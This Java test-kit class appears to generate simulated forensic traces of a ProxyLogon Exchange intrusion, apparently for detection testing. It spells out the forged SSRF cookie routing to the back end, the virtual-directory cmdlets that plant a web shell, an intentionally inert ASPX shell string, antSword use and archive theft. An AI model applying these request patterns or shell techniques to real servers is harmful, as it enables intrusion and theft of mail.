package dev.tidemark.testkit;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The traces of an intrusion by CVE-2021-26855 and CVE-2021-27065, in the order in which they come. Nothing in them
 * runs: the script is words, and lacks a bracket.
 * Source: Microsoft, "HAFNIUM targeting Exchange Servers"; CISA, AA21-062A.
 */
final class ProxyLogon {
    private static final String INERT = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load()"
            + "{/* INERT SAMPLE, NOT A SCRIPT */ eval(Request[\"NOTHING\"],\"unsafe\"}</script>";
    private static final String CANARY = "msExchEcpCanary=c4n4ry00112233.";
    private static final String DDI = "/ecp/DDI/DDIService.svc/";
    private static final String FIRST = "203.0.113.45";
    private static final String SECOND = "198.18.40.7";

    private final MadeServer server;

    ProxyLogon(MadeServer server) {
        this.server = server;
    }

    /**
     * From the first request to the theft.
     *
     * @param folder below {@code HttpProxy}, {@code owa/auth}
     * @param name   of the web shell, without its suffix
     */
    void chain(Instant at, String folder, String name) {
        session(at);
        virtualDirectory(at.plusMillis(9_050), folder + "/" + name + ".aspx");
        Instant nextEvening = at.plusSeconds(68_840);
        use(nextEvening, "/" + folder + "/" + name + ".aspx");
        theft(nextEvening.plusSeconds(1_500), folder, name + ".zip");
    }

    private void session(Instant at) {
        server.request(Request.proxied(at.minusMillis(1_400), "RpcHttp", "GET", "/rpc/", 401, FIRST)
                .agent("python-requests/2.25.1"));
        forged(at, "/autodiscover/autodiscover.xml", "", 200, "asks for the name of a mailbox");
        forged(at.plusMillis(1_600), "/mapi/emsmdb/", "", 200, "asks for the SID of an administrator");
        forged(at.plusMillis(3_900), "/ecp/proxyLogon.ecp", "", 241, "makes a session of an administrator");
    }

    private void virtualDirectory(Instant at, String page) {
        String settings = CANARY + "&schema=OABVirtualDirectory";
        String reset = CANARY + "&schema=ResetOABVirtualDirectory";
        forged(at, DDI + "GetObject", settings, 200, "reads the settings of a virtual directory");
        forged(at.plusMillis(2_200), DDI + "SetObject", settings, 200, "writes a script into the address of a virtual directory");
        server.services().ecp(at.plusMillis(2_250), "Set-OabVirtualDirectory.ExternalUrl='" + INERT
                + "'.Identity='7d0c2f3e-0000-4000-8000-000000000001'", DDI + "SetObject?" + settings,
                Mark.planted("the cmdlet that writes the script"));
        forged(at.plusMillis(4_700), DDI + "SetObject", reset, 200, "has the virtual directory written to a file");
        server.services().ecp(at.plusMillis(4_760), "Remove-OabVirtualDirectory.Force=$true.Identity='OAB (Default Web Site)'",
                DDI + "SetObject?" + reset, Mark.planted("the cmdlet that removes the virtual directory"));
        server.services().ecp(at.plusMillis(6_100), "New-OabVirtualDirectory.WebSiteName='Default Web Site'",
                DDI + "SetObject?" + reset, Mark.planted("the cmdlet that makes it anew"));
        server.disk().put("Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/" + page, """
                Name                            : OAB (Default Web Site)
                InternalUrl                     : https://mail.example/OAB
                ExternalUrl                     : %s
                AdminDisplayVersion             : Version 15.1 (Build 2176.2)
                """.formatted(INERT), at.plusMillis(4_900), Mark.planted("the web shell"));
    }

    /** A request of the front end to its own back end, under the computer's account. */
    private void forged(Instant time, String path, String query, int status, String shows) {
        Machine machine = server.machine();
        String target = ":444" + path + (query.isEmpty() ? "?#" : "?" + query + "#");
        server.request(Request.proxied(time, "Ecp", "POST", "/ecp/y.js", status, FIRST)
                .routed("ServerInfo~a]@" + machine.fqdn() + target, "X-BEResource-Cookie")
                .backEnd(path, query, machine.computerAccount()).agent("python-requests/2.25.1").mark(Mark.planted(shows)));
    }

    private void use(Instant evening, String page) {
        for (int i = 0; i < 4; i++) {
            server.request(Request.proxied(evening.plusMillis(i * 41_300L), "Owa", i == 0 ? "GET" : "POST", page, 200, SECOND)
                    .agent("antSword/v2.1").mark(Mark.planted("uses the web shell")));
        }
    }

    private void theft(Instant time, String folder, String name) {
        server.disk().put(new MadeFile("C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/" + folder + "/" + name,
                archive(time), time), Mark.planted("an archive laid ready"));
        server.request(Request.served(time.plusSeconds(95), "GET", "/" + folder + "/" + name, 200, SECOND)
                .mark(Mark.planted("fetches the archive")));
    }

    private static byte[] archive(Instant time) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            ZipEntry entry = new ZipEntry("mail.txt");
            entry.setTimeLocal(time.atOffset(ZoneOffset.UTC).toLocalDateTime());
            zip.putNextEntry(entry);
            zip.write("Nobody's mail: made up for a demonstration.\n".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException("writing to memory failed", e);
        }
        return bytes.toByteArray();
    }

    /** Forged requests that no back end answers. */
    void refused(Instant at, String client, int times) {
        for (int i = 0; i < times; i++) {
            server.request(Request.proxied(at.plusMillis(i * 3_100L), "Ecp", "POST", "/ecp/y.js", 503, client)
                    .routed("ServerInfo~collector.example/ecp/default.flt?", "X-BEResource-Cookie")
                    .agent("python-requests/2.25.1").mark(Mark.planted("a forged request, refused")));
        }
    }
}
